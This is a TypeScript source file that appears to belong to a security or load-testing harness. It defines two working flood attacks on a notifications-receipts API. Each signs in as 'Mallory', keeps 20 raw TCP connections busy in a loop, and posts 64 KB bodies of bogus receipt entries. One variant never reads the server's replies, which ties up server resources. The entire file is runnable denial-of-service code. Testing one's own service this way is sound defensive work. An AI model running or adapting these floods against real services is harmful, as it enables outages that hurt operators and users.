import type { Attack, Target } from '../attack.ts';
import { createLine } from '../network.ts';
import { signInAs } from '../person.ts';
import { openTcp } from '../raw-socket.ts';

const AT_ONCE = 20;
const BODY_BYTES = 64 * 1024;

/** Bodies of 64 KB full of receipts that are none, 20 at once, again and again. */
export const receipts: Attack = (target) => flood(target, true);

/** The same by who never reads what the server answers. */
export const unreadReceipts: Attack = (target) => flood(target, false);

async function flood({ url, signal }: Target, reads: boolean): Promise<string> {
  const token = await (await signInAs(url, 'Mallory')).token();
  const line = createLine(signal);
  const request = requestOf(url, token);
  const statuses = new Map<string, number>();
  let sent = 0;
  const senders = Array.from({ length: AT_ONCE }, async () => {
    while (!signal.aborted) {
      const socket = openTcp(url);
      const over = new Promise<void>((resolve) => {
        socket.once('close', () => resolve());
        signal.addEventListener('abort', () => resolve());
      });
      let answer = '';
      if (reads) {
        socket.on('data', (chunk: Buffer) => {
          if (answer === '') answer = chunk.toString('latin1', 9, 12);
        });
      } else socket.pause();
      await line.write(socket, request);
      sent += 1;
      await over;
      statuses.set(answer, (statuses.get(answer) ?? 0) + 1);
    }
  });
  await Promise.all(senders);
  const answers = [...statuses].filter(([status]) => status !== '');
  return `${sent} sent${answers.map(([status, count]) => `, ${count} × ${status}`).join('')}`;
}

function requestOf(url: string, token: string): Buffer {
  const items = Array<string>(Math.floor((BODY_BYTES - 15) / 3)).fill('{}');
  const body = `{"receipts":[${items.join(',')}]}`;
  return Buffer.from(
    [
      'POST /api/me/notifications/receipts HTTP/1.1',
      `Host: ${new URL(url).host}`,
      `Authorization: Bearer ${token}`,
      'Content-Type: application/json',
      `Content-Length: ${body.length}`,
      'Connection: close',
      '',
      body,
    ].join('\r\n'),
  );
}
